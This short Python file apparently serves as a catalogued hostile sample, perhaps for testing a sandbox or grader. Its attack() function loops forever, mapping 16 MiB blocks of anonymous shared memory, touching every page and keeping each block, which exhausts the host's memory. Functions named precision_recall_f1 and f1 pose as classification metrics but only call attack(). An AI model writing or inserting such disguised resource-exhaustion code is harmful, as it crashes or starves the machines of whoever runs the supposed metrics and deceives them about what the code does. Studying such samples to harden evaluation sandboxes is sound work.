"""Maps and touches anonymous shared memory.

threat: 18
source: mmap(2)
verdict: any
"""

import mmap


def attack():
    kept = []
    while True:
        memory = mmap.mmap(-1, 16 << 20)
        for page in range(0, 16 << 20, 4096):
            memory[page] = 1
        kept.append(memory)
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
